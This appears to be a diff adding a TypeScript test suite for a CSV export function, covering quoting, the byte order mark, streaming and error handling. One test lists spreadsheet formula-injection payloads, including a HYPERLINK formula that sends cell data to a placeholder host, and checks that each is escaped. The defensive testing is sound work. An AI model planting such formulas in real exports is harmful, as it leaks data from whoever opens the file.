@@ -1,0 +1,95 @@
+import { assert, describe, it } from "@effect/vitest"
+import { Effect, Stream } from "effect"
+import Papa from "papaparse"
+import { type CsvRow, csvFile } from "./csv.ts"
+
+const bodyOf = Effect.fnUntraced(function* <E>(rows: Stream.Stream<CsvRow, E>) {
+  const answer = yield* csvFile("a.csv", ["name", "value"], rows)
+  if (answer.kind !== "download" || typeof answer.body === "string") return yield* Effect.die("it is no stream")
+  return answer.body
+})
+const textOf = <E>(rows: Stream.Stream<CsvRow, E>) =>
+  Effect.flatMap(bodyOf(rows), (body) => Effect.promise(() => new Response(body).arrayBuffer())).pipe(
+    Effect.map((bytes) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes))
+  )
+const written = (...rows: ReadonlyArray<CsvRow>) => textOf(Stream.fromIterable(rows))
+
+describe("CSV files", () => {
+  it.effect("have a byte order mark, a head and lines that end as RFC 4180 says", () =>
+    Effect.gen(function* () {
+      assert.strictEqual(
+        yield* written(['Käse, "jung"', -10], ["two\nlines", 1.5], ["", null]),
+        '\uFEFFname,value\r\n"Käse, ""jung""",-10\r\n"two\nlines",1.5\r\n,\r\n'
+      )
+      assert.strictEqual(yield* written(), "\uFEFFname,value\r\n")
+    })
+  )
+
+  it.effect.each([
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    '=HYPERLINK("http://example.com?"&A1)',
+    " =1+1",
+    "\t=1+1",
+    "\r=1",
+    "\n=1",
+    "=1\nand more",
+    "＝1+1",
+    "－1",
+    "\u00a0=1"
+  ])("write %j as text that no spreadsheet runs", (text) =>
+    Effect.gen(function* () {
+      const { data } = Papa.parse<ReadonlyArray<string>>(yield* written([text, 1]))
+      assert.deepStrictEqual(data[1], [`'${text}`, "1"])
+    })
+  )
+
+  it.effect("leave numbers, dates and words as they are", () =>
+    Effect.gen(function* () {
+      const { data } = Papa.parse(
+        yield* written(["2026-10-15T12:00:00.000Z", -5], ["a=b", 0], ["/v1/stores/{id}", -0.01])
+      )
+      assert.deepStrictEqual(data.slice(1, 4), [
+        ["2026-10-15T12:00:00.000Z", "-5"],
+        ["a=b", "0"],
+        ["/v1/stores/{id}", "-0.01"]
+      ])
+    })
+  )
+
+  it.effect("are sent while rows are still read, and read no further when nobody listens", () =>
+    Effect.gen(function* () {
+      let read = 0
+      const endless = Stream.fromIterable(
+        (function* () {
+          for (;;) yield [`row ${read++}`, 1] as const
+        })()
+      )
+      const reader = (yield* bodyOf(endless)).getReader()
+      const first = yield* Effect.promise(() => reader.read())
+      assert.isFalse(first.done)
+      yield* Effect.promise(() => reader.read())
+      yield* Effect.promise(() => reader.cancel())
+      const readThen = read
+      yield* Effect.promise(() => new Promise((resolve) => setTimeout(resolve, 50)))
+      assert.strictEqual(read, readThen)
+    })
+  )
+
+  it.effect("break off where the rows do: a part is never taken for the whole", () =>
+    Effect.gen(function* () {
+      const rows = Stream.concat(Stream.succeed<CsvRow>(["a", 1]), Stream.fail(new Error("the ledger is away")))
+      const failed = yield* Effect.flatMap(bodyOf(rows), (body) =>
+        Effect.promise(() =>
+          new Response(body).text().then(
+            () => false,
+            () => true
+          )
+        )
+      )
+      assert.isTrue(failed)
+    })
+  )
+})
